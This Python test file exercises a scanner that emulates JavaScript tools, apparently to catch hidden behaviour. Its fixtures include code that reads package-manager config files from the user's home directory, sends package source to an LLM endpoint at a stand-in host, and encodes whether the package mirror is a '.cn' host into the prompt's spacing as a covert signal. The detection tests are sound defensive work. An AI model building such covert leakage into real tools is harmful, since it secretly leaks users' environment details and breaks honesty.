"""Folders of the user's, with others in them: tools that take each package of a monorepo have some to take."""

from pathlib import Path

import pytest

from scanner.emulate.start import names_below
from scanner.emulate.userfiles import missed_folders
from scanner.world.recording import Act, Recording, Request
from tests.emulate.trying import emulated, seen

MISSING = "ENOENT: no such file or directory, scandir '/home/user/project/services'"


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        (MISSING, {"/home/user/project/services"}),
        (MISSING.replace("/home/user/project/services", "apps/web"), {"/home/user/project/apps/web"}),
        (MISSING.replace("scandir", "open"), set()),
        (MISSING.replace("services", ".cache"), set()),
        (MISSING.replace("/home/user/project", "/var/lib"), set()),
        (MISSING.replace("/home/user/project/services", "a" * 5000), set()),
    ],
    ids=["absolute", "relative", "a file", "hidden", "outside", "oversized"],
)
def test_only_folders_of_the_user_are_missed(said: str, expected: set[str]) -> None:
    assert missed_folders(Recording(errors=[f"Error: {said}"])) == expected


def test_a_program_that_sent_something_misses_no_folder() -> None:
    recording = Recording(events=[Act(kind="print", name="stderr", text=MISSING)])
    assert missed_folders(recording) == {"/home/user/project/services"}
    recording.events.append(Request(via="fetch", method="GET", url="https://api.example.com", headers=(), body=None))
    assert missed_folders(recording) == set()


@pytest.mark.parametrize(
    ("said", "looked_for", "expected"),
    [
        ("pal: no such folder: /home/user/notes", "/home/user/notes", {"/home/user/notes"}),
        ("The directory ~/journal/daily does not exist.", "/home/user/journal/daily", {"/home/user/journal/daily"}),
        ("Notes folder '/home/user/notes' not found", "/home/user/notes", {"/home/user/notes"}),
        ("pal: no such folder: /home/user/notes", "/home/user/other", set()),
        ("pal: no such folder: /home/user/notes-old", "/home/user/notes", set()),
        ("No such file or directory: '/home/user/notes'", "/home/user/notes", set()),
        ("wrote the folder /home/user/notes", "/home/user/notes", set()),
        ("no such folder: /home/user/.cache/pal", "/home/user/.cache/pal", set()),
        ("no such folder: /home/user/Library/Logs", "/home/user/Library/Logs", set()),
        ("no such folder: /srv/notes", "/srv/notes", set()),
    ],
)
def test_a_folder_at_home_is_missed_that_a_program_says_it_lacks(said: str, looked_for: str, expected: set[str]) -> None:
    recording = Recording(events=[Act(kind="print", name="stderr", text=said)], files={looked_for})
    assert missed_folders(recording) == expected


def test_what_lies_in_a_folder_of_the_user() -> None:
    assert names_below("/a", "/a") == ("notes.txt", "notes.md", "first")
    assert names_below("/a", "/a/first") == ("README.md", "main.js")
    assert [names_below("/a", path) for path in ("/a/second", "/a/first/main.js", "/ab", "/", "")] == [None] * 5


EACH = """
const fs = require("node:fs"), os = require("node:os"), path = require("node:path");
const read = (name) => { try { return fs.readFileSync(path.join(os.homedir(), name), "utf8"); } catch { return ""; } };
const source = /https:\\/\\/([\\w.-]+)/.exec(READ)?.[1] ?? "";
const packages = (dir) => fs.readdirSync(dir, { withFileTypes: true }).filter((one) => one.isDirectory()).map((one) => path.join(dir, one.name));
const texts = (dir) => fs.readdirSync(dir).filter((name) => /\\.(js|ts|py)$/.test(name)).map((name) => fs.readFileSync(path.join(dir, name), "utf8"));
const ask = (content) => fetch("https://api.example.com/v1/chat", { method: "POST", body: JSON.stringify({ messages: [{ content }] }) });
"""
BY_DEFAULT = """for (const dir of packages("services")) ask("Review:" + SPACE + texts(dir).join());"""
BY_YARGS = """
require("yargs")(process.argv.slice(2))
  .command("audit [dir]", "audit every package", (y) => y.positional("dir", { default: "services" }), (a) => {
    for (const dir of packages(a.dir)) ask("Review:" + SPACE + texts(dir).join());
  })
  .command("sources", "show where packages come from", () => {}, () => console.log(source))
  .parse();
"""
FILES = {
    "go": ".config/go/env",
    "gem": ".gemrc",
    "gradle": ".gradle/init.gradle",
    "composer": ".config/composer/config.json",
    "cargo of old": ".cargo/config",
}


def _tool(file: str, sends: str, space: str) -> dict[str, str]:
    head = EACH.replace("READ", f'read("{file}")')
    return {"main.js": f'{head}const SPACE = {space};{sends}console.error("packages come from", source);'}


@pytest.mark.parametrize("name", FILES)
def test_what_the_source_of_packages_decides_for_each_package_is_seen(name: str, tmp_path: Path) -> None:
    found = seen(emulated(tmp_path, _tool(FILES[name], BY_DEFAULT, 'source.endsWith(".cn") ? "  " : " "')))
    assert ("form", "model_request") in {(one.form, one.way_out) for one in found if "package_mirror" in one.signals}


@pytest.mark.parametrize("sends", [BY_DEFAULT, BY_YARGS], ids=["default", "yargs"])
def test_a_source_of_packages_that_is_shown_hides_nothing(sends: str, tmp_path: Path) -> None:
    found = seen(emulated(tmp_path, _tool(FILES["go"], sends, '" "')))
    assert [one for one in found if one.form in ("form", "gate") and one.way_out not in (None, "terminal")] == []


def test_a_folder_that_only_a_declared_default_names_is_gone_through(tmp_path: Path) -> None:
    found = seen(emulated(tmp_path, _tool(FILES["go"], BY_YARGS, 'source.endsWith(".cn") ? "  " : " "')))
    assert ("form", "model_request") in {(one.form, one.way_out) for one in found if "package_mirror" in one.signals}
